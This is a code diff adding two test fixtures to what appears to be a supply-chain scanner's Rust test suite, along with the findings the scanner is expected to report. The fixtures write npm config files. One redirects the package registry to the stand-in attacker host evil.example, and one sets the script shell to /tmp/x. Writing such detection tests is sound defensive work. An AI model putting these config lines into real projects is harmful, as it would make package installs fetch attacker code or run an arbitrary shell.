@@ -493,6 +493,20 @@ fn plants() -> Vec<Plant> {
             1,
         ),
         plant(
+            "npm is told another registry",
+            |s| write(s, ".npmrc", "registry=https://evil.example/\n"),
+            "unlisted-source[npm-config]",
+            "https://evil.example/",
+            1,
+        ),
+        plant(
+            "npm is told another shell",
+            |s| write(s, "npm/.npmrc", "script-shell=/tmp/x\n"),
+            "unlisted-source[npm-config]",
+            "script-shell",
+            0,
+        ),
+        plant(
             "a node gets an MCP server",
             |s| {
                 edit(
